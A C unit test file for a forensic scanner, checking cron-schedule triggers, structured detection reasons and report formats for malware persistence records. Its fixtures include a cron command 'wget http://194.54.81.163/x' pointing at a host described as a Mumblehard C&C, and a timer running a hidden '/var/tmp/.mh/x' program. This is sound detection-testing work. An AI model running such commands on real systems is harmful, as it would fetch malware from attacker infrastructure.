/* test_persist.c - the generic persistence model, structured reasons and
 * recovery methods.
 *
 * A dummy second persistence kind ("systemd-timer", which no collector
 * makes yet) is built by hand, judged by the verdicts and rendered in
 * every format of the format table: no writer knows the kind, yet every
 * format shows it.  The trigger's "every 15 minutes" is checked against
 * the cron schedule's own test over many schedules. */
#define _GNU_SOURCE
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <jansson.h>

#include "artifacts/cron_persist.h"
#include "artifacts/cron_sched.h"
#include "common/ms_mem.h"
#include "common/ms_persist.h"
#include "common/ms_reasons.h"
#include "common/ms_scan.h"
#include "detection/policy.h"
#include "detection/verdict.h"
#include "report/report.h"

#define T0 1428400800 /* 2015-04-07 10:00:00 UTC */
#define EVERY15 (1ULL | 1ULL << 15 | 1ULL << 30 | 1ULL << 45)
#define ALLHOURS ((1u << 24) - 1)

static char *xs(const char *s)
{
    char *d = strdup(s);
    if (!d)
        abort();
    return d;
}

/* ---- triggers ---------------------------------------------------------- */

static void test_trigger_every(void **state)
{
    (void)state;
    ms_trigger t = { .type = MS_TRIG_TIMES, .minutes = EVERY15,
                     .hours = ALLHOURS, .every_day = 1 };
    assert_true(ms_trigger_every(&t, 15));
    assert_false(ms_trigger_every(&t, 30));
    assert_false(ms_trigger_every(&t, 7));      /* 7 does not divide 60 */
    t.minutes = EVERY15 << 14;                  /* 14,29,44,59 */
    assert_true(ms_trigger_every(&t, 15));
    t.minutes = EVERY15 | 1ULL << 7;            /* one minute too many */
    assert_false(ms_trigger_every(&t, 15));
    t.minutes = EVERY15;
    t.hours = ALLHOURS & ~1u;                   /* not in hour 0 */
    assert_false(ms_trigger_every(&t, 15));
    t.hours = ALLHOURS;
    t.every_day = 0;                            /* weekdays only */
    assert_false(ms_trigger_every(&t, 15));
    t.every_day = 1;
    t.type = MS_TRIG_BOOT;                      /* sets mean nothing */
    assert_false(ms_trigger_every(&t, 15));
    t.type = MS_TRIG_TIMES;
    t.minutes = 1;                              /* hourly */
    assert_true(ms_trigger_every(&t, 60));
    assert_false(ms_trigger_every(NULL, 15));
    /* FreeBSD "@900": 900 s after each run, whatever the bit sets hold */
    ms_trigger iv = { .type = MS_TRIG_INTERVAL, .interval_sec = 900 };
    assert_true(ms_trigger_every(&iv, 15));
    assert_false(ms_trigger_every(&iv, 5));
    iv.interval_sec = 901;
    assert_false(ms_trigger_every(&iv, 15));
    iv.interval_sec = 0;
    assert_false(ms_trigger_every(&iv, 15));
    assert_false(ms_trigger_every(&iv, 0));
    assert_string_equal(ms_trigger_type_name(MS_TRIG_INTERVAL), "interval");
    assert_string_equal(ms_trigger_type_name(MS_TRIG_CALENDAR), "calendar");
    assert_string_equal(ms_trigger_type_name((enum ms_trigger_type)99),
                        "unknown");
}

/* The trigger computed from a cron schedule says "every 15 minutes"
 * exactly when the schedule module does, over a grid of schedules. */
static void test_trigger_matches_cron(void **state)
{
    (void)state;
    static const char *const mins[] = { "*/15", "0,15,30,45", "5-59/15",
        "*/5", "*/30", "0", "14,29,44,59", "15-59/15", "1,16,31,46,50",
        "~/15", "0-45/15", "3/15" };
    static const char *const hours[] = { "*", "0-23", "*/1", "9-17", "1-23",
                                         "0-22/1" };
    static const char *const doms[] = { "*", "1-31", "1-15", "*/2" };
    static const char *const mons[] = { "*", "1-12", "1-6" };
    static const char *const dows[] = { "*", "0-6", "1-5", "0-7" };
    size_t checked = 0, every = 0;
    for (size_t a = 0; a < sizeof mins / sizeof *mins; a++)
        for (size_t b = 0; b < sizeof hours / sizeof *hours; b++)
            for (size_t c = 0; c < sizeof doms / sizeof *doms; c++)
                for (size_t d = 0; d < sizeof mons / sizeof *mons; d++)
                    for (size_t e = 0; e < sizeof dows / sizeof *dows; e++) {
                        const char *f[5] = { mins[a], hours[b], doms[c],
                                             mons[d], dows[e] };
                        ms_cron_sched s;
                        char *err = NULL;
                        if (ms_cron_sched_parse(f, &s, &err) != MS_OK) {
                            free(err);
                            continue;
                        }
                        ms_trigger t;
                        assert_int_equal(ms_cron_trigger(&s, "x", &t), MS_OK);
                        int want = ms_cron_sched_every_15(&s);
                        if (ms_trigger_every(&t, 15) != want)
                            fail_msg("%s %s %s %s %s: trigger says %d",
                                     f[0], f[1], f[2], f[3], f[4], !want);
                        every += want;
                        checked++;
                        ms_trigger_clear(&t);
                    }
    assert_true(checked > 1000);
    assert_true(every > 50);      /* the grid holds both answers */

    ms_cron_sched s;
    assert_int_equal(ms_cron_sched_macro("@reboot", &s), MS_OK);
    ms_trigger t;
    assert_int_equal(ms_cron_trigger(&s, "@reboot", &t), MS_OK);
    assert_int_equal(t.type, MS_TRIG_BOOT);
}

/* ---- structured reasons ------------------------------------------------ */

static void test_reason_fields(void **state)
{
    (void)state;
    ms_reason *r = NULL;
    size_t n = 0;
    ms_reason_ev ev = { .ioc_type = "ipv4", .ioc_value = "194.54.81.163",
                        .source_path = "/etc/crontab", .source_line = 7,
                        .has_offset = 1, .offset = 99,
                        .recovery_method = MS_RECOV_JOURNAL,
                        .certainty = MS_CERT_HIGH, .has_file = 1,
                        .file_id = 3 };
    assert_int_equal(ms_reasons_add(&r, &n, MS_R_C2_INDICATOR,
                                    MS_SEV_MALICIOUS, xs("sentence"), &ev),
                     MS_OK);
    assert_int_equal(n, 1);
    assert_string_equal(r[0].code, "C2_INDICATOR");
    assert_ptr_equal(r[0].code, MS_R(C2_INDICATOR)); /* the table's string */
    assert_ptr_not_equal(r[0].ev.ioc_value, ev.ioc_value); /* copied */
    assert_string_equal(r[0].ev.ioc_value, "194.54.81.163");
    assert_int_equal(r[0].ev.source_line, 7);
    /* a code outside the table is refused, the text freed */
    assert_int_equal(ms_reasons_add(&r, &n, MS_R_COUNT, MS_SEV_INFO,
                                    xs("x"), NULL), MS_ERR_ARG);
    assert_int_equal(ms_reasons_add(&r, &n, MS_R_YARA_INFO, MS_SEV_INFO,
                                    NULL, NULL), MS_ERR_NOMEM);
    assert_int_equal(n, 1);
    ms_reason *c = NULL;
    assert_int_equal(ms_reasons_copy(r, n, &c), MS_OK);
    assert_string_equal(c[0].ev.source_path, "/etc/crontab");
    assert_ptr_not_equal(c[0].ev.source_path, r[0].ev.source_path);
    ms_reasons_free(r, n);
    ms_reasons_free(c, 1);
    assert_string_equal(ms_recovery_method_name(MS_RECOV_CARVE), "carve");
    assert_string_equal(ms_recovery_method_name(MS_RECOV_NONE), "none");
}

/* ---- a dummy second kind in every format ------------------------------- */

static void set_ref(ms_fileref *r, const char *path, uint64_t ino,
                    int64_t mtime)
{
    r->volume = 0;
    r->path = xs(path);
    r->inode = ino;
    r->has_inode = 1;
    r->type = MS_FT_REG;
    r->mode = 0644;
    r->size = 200;
    for (int k = 0; k < MS_T_DTIME; k++)
        r->times[k] = (ms_time){ 1, mtime + k, 0 };
}

static ms_scan *build(void)
{
    ms_scan *s = calloc(1, sizeof *s);
    assert_non_null(s);
    s->nimages = 1;
    s->images = calloc(1, sizeof *s->images);
    s->images[0] = xs("/evidence/timer.dd");
    s->image_type = xs("raw");
    s->image_size = 1 << 20;
    s->sector_size = 512;
    s->started = T0 + 86400;
    s->finished = T0 + 86401;
    s->nvolumes = 1;
    s->volumes = calloc(1, sizeof *s->volumes);
    s->volumes[0].vs_type = xs("none");
    s->volumes[0].fs_type = xs("ext4");
    s->volumes[0].length = 1 << 20;
    s->volumes[0].slot = -1;

    /* the program the timer runs: a file of the scan */
    size_t fi;
    ms_fileref fr = { 0 };
    set_ref(&fr, "/var/tmp/.mh/x", 12, T0);
    fr.mode = 0755;
    assert_int_equal(ms_scan_file_for(s, &fr, 0, MS_ORIGIN_CRON_PROGRAM, &fi),
                     MS_OK);
    ms_fileref_clear(&fr);
    s->files[fi].executable = 1;
    s->files[fi].content_read = 1;
    /* content brought back by a method no writer names itself */
    s->files[fi].recovery = xs("read through the intact inode of a deleted "
                               "name");
    s->files[fi].recovery_method = MS_RECOV_INODE;
    s->files[fi].recovery_certainty = MS_CERT_HIGH;

    size_t pi;
    assert_int_equal(ms_scan_new_persistence(s, &pi), MS_OK);
    ms_persistence *p = &s->persistence[pi];
    assert_int_equal(p->kind_index, -1);
    p->kind = "systemd-timer";
    p->noun = "systemd timer";
    set_ref(&p->source, "/etc/systemd/system/mh.timer", 77, T0 - 500);
    p->line = 3;
    p->offset = 22;
    p->user = xs("root");
    p->trigger = (ms_trigger){ .type = MS_TRIG_TIMES, .minutes = EVERY15,
                               .hours = ALLHOURS, .every_day = 1 };
    p->schedule = xs("OnCalendar=*:0/15");
    p->schedule_words = xs("every 15 minutes");
    p->command = xs("/var/tmp/.mh/x 194.54.81.163");
    p->nprograms = 1;
    p->programs = calloc(1, sizeof *p->programs);
    p->programs[0].as_written = xs("/var/tmp/.mh/x");
    p->programs[0].resolved = xs("/var/tmp/.mh/x");
    p->programs[0].status = MS_PROG_FOUND;
    p->programs[0].file_index = (long)fi;
    assert_int_equal(ms_persistence_attr(p, "unit", "mh.service"), MS_OK);
    assert_int_equal(ms_persistence_attr(p, "Persistent", "true"), MS_OK);
    assert_int_equal(ms_persistence_attr(p, "skipped", NULL), MS_OK);
    assert_int_equal(p->nattrs, 2);
    return s;
}

static char *render(const ms_scan *s, ms_report_format fmt)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    assert_non_null(f);
    ms_report_info info = { .version = "9.9-test" };
    assert_int_equal(ms_report_write(f, fmt, s, &info), MS_OK);
    fclose(f);
    return buf;
}

static void test_dummy_kind_verdicts(void **state)
{
    (void)state;
    ms_scan *s = build();
    assert_int_equal(ms_verdict_apply(s, NULL), MS_OK);
    const ms_persistence *p = &s->persistence[0];
    /* the command names a Mumblehard C&C: a reason of the record */
    assert_int_equal(p->nreasons, 1);
    assert_string_equal(p->reasons[0].code, "C2_INDICATOR");
    assert_string_equal(p->reasons[0].ev.ioc_value, "194.54.81.163");
    assert_string_equal(p->reasons[0].ev.source_path,
                        "/etc/systemd/system/mh.timer");
    assert_int_equal(p->reasons[0].ev.source_line, 3);
    assert_true(p->reasons[0].ev.has_file);
    assert_non_null(strstr(p->reasons[0].text, "the systemd timer's command"));
    /* the program it runs every 15 minutes from /var/tmp */
    const ms_file *f = &s->files[0];
    assert_true(f->referenced);
    int found = 0;
    for (size_t i = 0; i < f->nreasons; i++) {
        if (strcmp(f->reasons[i].code, "CRON_15MIN_TEMP_PROGRAM"))
            continue;
        found = 1;
        assert_non_null(strstr(f->reasons[i].text, "by the systemd timer at "
                                   "/etc/systemd/system/mh.timer:3"));
        assert_string_equal(f->reasons[i].ev.source_path,
                            "/etc/systemd/system/mh.timer");
        assert_int_equal(f->reasons[i].ev.source_line, 3);
    }
    assert_true(found);
    ms_summary sum;
    assert_int_equal(ms_summary_compute(s, &sum), MS_OK);
    assert_int_equal(sum.cron_findings, 1);   /* the record's C&C reason */
    ms_scan_free(s);
    free(s);
}

static void test_dummy_kind_every_format(void **state)
{
    (void)state;
    ms_scan *s = build();
    assert_int_equal(ms_verdict_apply(s, NULL), MS_OK);
    size_t nfmt = ms_report_format_count();
    assert_true(nfmt >= 6);
    for (size_t i = 0; i < nfmt; i++) {
        const ms_report_format_def *d = ms_report_format_get(i);
        char *out = render(s, (ms_report_format)i);
        /* every format names the record's source */
        if (!strstr(out, "/etc/systemd/system/mh.timer"))
            fail_msg("format %s does not show the timer", d->name);
        /* all but the bodyfile (a file list) name its kind too */
        if (strcmp(d->name, "bodyfile") && !strstr(out, "systemd-timer"))
            fail_msg("format %s does not name the kind", d->name);
        if (!strcmp(d->name, "text")) {
            assert_non_null(strstr(out, "systemd-timer, user root  "
                                        "[EVERY 15 MINUTES]"));
            assert_non_null(strstr(out, "unit        mh.service"));
            assert_non_null(strstr(out, "by inode, certainty high"));
        } else if (!strcmp(d->name, "html")) {
            assert_non_null(strstr(out, "<tr class=\"hot\">"));
            assert_non_null(strstr(out, "Persistent: true"));
        } else if (!strcmp(d->name, "csv")) {
            assert_non_null(strstr(out, "\"persistence\","));
            assert_non_null(strstr(out, "Persistent: true"));
        } else if (!strcmp(d->name, "timesketch")) {
            assert_non_null(strstr(out, "\"mumblescan:persistence\""));
        } else if (!strcmp(d->name, "bodyfile")) {
            assert_non_null(strstr(out, "|v0:/etc/systemd/system/mh.timer|77|"));
        }
        free(out);
    }

    /* JSON: the record and the reasons' fields */
    char *out = render(s, MS_REPORT_JSON);
    json_error_t err;
    json_t *r = json_loads(out, 0, &err);
    free(out);
    assert_non_null(r);
    assert_string_equal(json_string_value(json_object_get(r,
                        "schema_version")), "1.2");
    json_t *p = json_array_get(json_object_get(r, "persistence"), 0);
    assert_non_null(p);
    assert_string_equal(json_string_value(json_object_get(p, "kind")),
                        "systemd-timer");
    assert_true(json_is_true(json_object_get(p, "every_15_minutes")));
    json_t *trig = json_object_get(p, "trigger");
    assert_string_equal(json_string_value(json_object_get(trig, "type")),
                        "times");
    assert_int_equal(json_array_size(json_object_get(trig, "minutes")), 4);
    assert_int_equal(json_array_size(json_object_get(trig, "hours")), 24);
    json_t *attr = json_array_get(json_object_get(p, "attributes"), 1);
    assert_string_equal(json_string_value(json_object_get(attr, "key")),
                        "Persistent");
    json_t *ev = json_object_get(json_array_get(json_object_get(p, "reasons"),
                                                0), "evidence");
    assert_string_equal(json_string_value(json_object_get(ev, "indicator")),
                        "194.54.81.163");
    assert_string_equal(json_string_value(json_object_get(ev,
                        "indicator_type")), "ipv4");
    assert_int_equal(json_integer_value(json_object_get(ev, "line")), 3);
    assert_int_equal(json_integer_value(json_object_get(ev, "file")), 0);
    /* cron keys stay, empty: the timer is no cron job */
    assert_int_equal(json_array_size(json_object_get(r, "cron_jobs")), 0);
    /* the file: recovery.method from the model's enumeration */
    json_t *f = json_array_get(json_object_get(r, "findings"), 0);
    assert_non_null(f);
    json_t *rec = json_object_get(f, "recovery");
    assert_string_equal(json_string_value(json_object_get(rec, "method")),
                        "inode");
    assert_string_equal(json_string_value(json_object_get(rec, "certainty")),
                        "high");
    json_t *reasons = json_object_get(f, "reasons");
    int seen = 0;
    for (size_t i = 0; i < json_array_size(reasons); i++) {
        json_t *x = json_array_get(reasons, i);
        const char *code = json_string_value(json_object_get(x, "code"));
        json_t *e = json_object_get(x, "evidence");
        assert_true(json_is_object(e));   /* every reason has the object */
        if (!strcmp(code, "CRON_15MIN_TEMP_PROGRAM")) {
            seen = 1;
            assert_string_equal(json_string_value(json_object_get(e,
                                "source")), "/etc/systemd/system/mh.timer");
            assert_int_equal(json_integer_value(json_object_get(e, "line")),
                             3);
        }
    }
    assert_true(seen);
    json_decref(r);
    ms_scan_free(s);
    free(s);
}

/* Cron jobs become records, with their cron-only details as attributes,
 * and their reasons reach the `cron_jobs` JSON through the record. */
static void test_cron_records(void **state)
{
    (void)state;
    ms_scan *s = build();
    size_t ci, ji;
    assert_int_equal(ms_scan_new_crontab(s, &ci), MS_OK);
    set_ref(&s->crontabs[ci].file, "/etc/crontab", 40, T0 - 900);
    s->crontabs[ci].system = 1;
    s->crontabs[ci].readable = 1;
    s->crontabs[ci].recovery = xs("recovered from the ext journal: test");
    s->crontabs[ci].recovery_method = MS_RECOV_JOURNAL;
    s->crontabs[ci].recovery_certainty = MS_CERT_MEDIUM;
    assert_int_equal(ms_scan_new_job(s, &ji), MS_OK);
    assert_int_equal(s->jobs[ji].persistence, -1);
    ms_cronjob *j = &s->jobs[ji];
    j->crontab = (long)ci;
    j->line = 9;
    j->user = xs("www-data");
    j->schedule = xs("@reboot");
    j->schedule_words = xs("at boot");
    j->trigger.type = MS_TRIG_BOOT;
    j->reboot = 1;                /* as the collector derives it */
    j->command = xs("wget http://194.54.81.163/x");
    j->input = xs("hello");
    j->time_zone = xs("the system's local time");
    size_t before = s->npersistence;
    assert_int_equal(ms_cron_persistence(s, ji), MS_OK);
    assert_int_equal(s->npersistence, before + 1);
    const ms_persistence *p = &s->persistence[before];
    assert_int_equal(s->jobs[ji].persistence, (long)before);
    assert_int_equal(p->kind_index, (long)ji);
    assert_string_equal(p->kind, "cron");
    assert_string_equal(p->source.path, "/etc/crontab");
    assert_int_equal(p->recovery_method, MS_RECOV_JOURNAL);
    assert_int_equal(p->nattrs, 2);           /* stdin, time zone */
    assert_string_equal(p->attrs[0].key, "stdin");
    assert_int_equal(ms_verdict_apply(s, NULL), MS_OK);

    char *out = render(s, MS_REPORT_JSON);
    json_t *r = json_loads(out, 0, NULL);
    free(out);
    assert_non_null(r);
    json_t *cj = json_array_get(json_object_get(r, "cron_jobs"), 0);
    assert_true(json_is_true(json_object_get(cj, "reboot")));
    json_t *reason = json_array_get(json_object_get(cj, "reasons"), 0);
    assert_string_equal(json_string_value(json_object_get(reason, "code")),
                        "C2_INDICATOR");
    json_t *rec = json_array_get(json_object_get(r, "persistence"), 1);
    assert_true(json_is_true(json_object_get(rec, "at_boot")));
    assert_string_equal(json_string_value(json_object_get(
                            json_object_get(rec, "recovery"), "method")),
                        "journal");
    json_t *ct = json_array_get(json_object_get(r, "crontabs"), 0);
    assert_string_equal(json_string_value(json_object_get(
                            json_object_get(ct, "recovery"), "method")),
                        "journal");
    json_decref(r);
    ms_scan_free(s);
    free(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_trigger_every),
        cmocka_unit_test(test_trigger_matches_cron),
        cmocka_unit_test(test_reason_fields),
        cmocka_unit_test(test_dummy_kind_verdicts),
        cmocka_unit_test(test_dummy_kind_every_format),
        cmocka_unit_test(test_cron_records),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
